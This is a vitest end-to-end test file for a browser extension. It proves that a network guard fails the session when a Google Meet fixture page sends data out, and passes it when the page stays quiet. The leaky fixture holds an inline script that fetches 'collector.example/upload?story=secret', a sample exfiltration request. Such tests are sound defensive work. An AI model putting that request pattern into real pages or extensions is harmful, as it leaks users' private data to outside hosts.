import { describe, expect, it } from 'vitest';
import { launchWithExtension } from '../harness/browser.mjs';
import { serveCallPages } from '../harness/call-pages';

// Every browser session in the e2e run is checked on close (tests/harness/browser.mjs, guardNetwork). This file
// proves that check can fail: a request started from a call page beyond loading itself is caught.
describe('the zero-network guard', () => {
  it('fails the session when a call page sends something out', async () => {
    const { context } = await launchWithExtension({ expectLeak: true });
    await serveCallPages(context, [
      {
        url: 'https://meet.google.com/zzz-leak-zzz',
        html: `<!doctype html><title>leaky</title><script>fetch('https://collector.example/upload?story=secret').catch(() => {});</script>`,
      },
    ]);
    const page = await context.newPage();
    await page.goto('https://meet.google.com/zzz-leak-zzz');
    await page.waitForLoadState('networkidle').catch(() => {});
    await expect(context.close()).rejects.toThrow(/collector\.example/);
  });

  it('passes a session that only loads fixture pages and extension pages', async () => {
    const { context, extensionUrl } = await launchWithExtension();
    await serveCallPages(context, [
      { url: 'https://meet.google.com/abc-defg-hij', html: '<!doctype html><title>quiet</title>' },
    ]);
    const page = await context.newPage();
    await page.goto('https://meet.google.com/abc-defg-hij');
    await page.goto(extensionUrl('dashboard.html'));
    await page.getByRole('heading', { name: 'Story library' }).waitFor();
    await expect(context.close()).resolves.toBeUndefined();
  });
});
